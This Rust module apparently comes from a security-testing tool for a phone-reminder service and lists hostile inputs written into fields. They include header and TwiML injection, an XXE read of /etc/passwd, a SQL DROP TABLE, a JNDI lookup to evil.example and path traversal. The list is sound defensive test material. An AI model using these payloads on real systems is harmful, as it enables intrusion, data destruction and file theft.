//! Strings that break careless programs.

use fastrand::Rng;

/// A value that an attacker writes into a field, with its name for the report.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Injection {
    pub(crate) name: &'static str,
    value: Value,
}

#[derive(Debug, Clone, Copy)]
enum Value {
    Bytes(&'static [u8]),
    /// Bytes that are repeated this many times.
    Repeated(&'static [u8], usize),
}

const fn bytes(name: &'static str, value: &'static [u8]) -> Injection {
    Injection { name, value: Value::Bytes(value) }
}

const fn repeated(name: &'static str, value: &'static [u8], times: usize) -> Injection {
    Injection { name, value: Value::Repeated(value, times) }
}

/// All injections. Those of [`TEXTUAL`] are valid UTF-8 of at most 1600 characters, the longest text.
pub(crate) const ALL: [Injection; 31] = [
    bytes("CRLF and a header", b"x\r\nX-Twilio-Signature: y\r\n\r\nz"),
    bytes("CR", b"a\rb"),
    bytes("NUL", b"a\0b"),
    bytes("C0 controls", b"\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f"),
    bytes("C1 controls", b"\xc2\x80\xc2\x85\xc2\x9b31m"),
    bytes("TwiML", b"</Say><Dial>+19005550199</Dial><Say>"),
    bytes("TwiML in an attribute", b"\"/><Redirect method=\"POST\">https://evil.example</Redirect>"),
    bytes("CDATA", b"]]><Hangup/><![CDATA["),
    bytes("an XML entity", b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;&amp;&#0;</a>"),
    bytes("SQL", b"'; DROP TABLE reminders; --"),
    bytes("an expression of DynamoDB", b"attribute_exists(pk) OR #a = :a"),
    bytes("format strings", b"%s%n%x{}{0}{:?}${jndi:ldap://evil.example/a}{{7*7}}"),
    bytes("a path", b"../../../../etc/passwd"),
    bytes("JSON", b"{\"v\":1,\"parked\":1,\"$ref\":\"#\"}"),
    bytes("unicode digits", "\u{661}\u{662} \u{ff11}\u{ff12} \u{1d7cf}\u{2460}\u{b9}".as_bytes()),
    bytes("bidi controls", "\u{202e}dessop\u{202d}\u{2066}x\u{2069}".as_bytes()),
    bytes("invisible characters", "a\u{200b}b\u{feff}c\u{ad}d\u{2028}e\u{2029}f".as_bytes()),
    bytes("emoji", "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{1f3fd}\u{fe0f}\u{1f1fa}\u{1f1f8}".as_bytes()),
    bytes("noncharacters", "\u{fffe}\u{ffff}\u{10ffff}\u{e000}\u{e0041}".as_bytes()),
    bytes("spaces only", " \t\u{a0}\u{2003}\u{3000}\n".as_bytes()),
    bytes("a huge number", b"999999999999999999999999999999999999999999"),
    bytes("a negative number", b"-9223372036854775809"),
    repeated("zalgo", "e\u{301}\u{323}\u{489}\u{20dd}".as_bytes(), 100),
    repeated("nested brackets", b"[", 700),
    repeated("nested elements", b"<a>", 250),
    bytes("invalid UTF-8", b"\xff\xfe\xc0\x80\xf5"),
    bytes("a surrogate in UTF-8", b"\xed\xa0\x80\xed\xb0\x80"),
    bytes("a cut character", b"milk \xf0\x9f\xa5"),
    repeated("10 kB", b"A", 10_000),
    repeated("10 kB of emoji", "\u{1f95b}".as_bytes(), 2_500),
    repeated("50 kB", b"%", 16_000),
];

/// The number of injections at the start of [`ALL`] that are valid texts.
const TEXTUAL: usize = 25;

impl Injection {
    /// Returns the value with the canary at its end, by which it is recognized in a log.
    pub(crate) fn value(self, canary: &str) -> Vec<u8> {
        let mut value = match self.value {
            Value::Bytes(value) => value.to_vec(),
            Value::Repeated(value, times) => value.repeat(times),
        };
        value.push(b' ');
        value.extend_from_slice(canary.as_bytes());
        value
    }
}

/// Returns an injection that is a valid text.
pub(crate) fn textual(rng: &mut Rng, canary: &str) -> String {
    String::from_utf8_lossy(&ALL[rng.usize(..TEXTUAL)].value(canary)).into_owned()
}

/// Returns a word that appears nowhere else. Every text and field of a run contains it, so a log that contains it leaks
/// the words of a person. It has no vowels, so that it can't be read as a time, a command or an unusual word.
pub(crate) fn canary(rng: &mut Rng) -> String {
    const CONSONANTS: &[u8] = b"bcdfghjklmnpqrstvwxz";
    let letter = |rng: &mut Rng| char::from(CONSONANTS[rng.usize(..CONSONANTS.len())]);
    std::iter::once('q').chain((0..9).map(|_| letter(rng))).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn textual_injections_are_valid_texts() {
        for injection in &ALL[..TEXTUAL] {
            let value = String::from_utf8(injection.value("qcanary")).unwrap();
            assert!(value.encode_utf16().count() <= 1600, "{}", injection.name);
        }
        assert!(ALL[TEXTUAL..].iter().all(|injection| {
            String::from_utf8(injection.value("q")).map_or(true, |value| value.encode_utf16().count() > 1600)
        }));
    }

    #[test]
    fn a_seed_has_one_canary() {
        let made = |seed| canary(&mut Rng::with_seed(seed));
        assert_eq!(made(1), made(1));
        assert_ne!(made(1), made(2));
    }
}
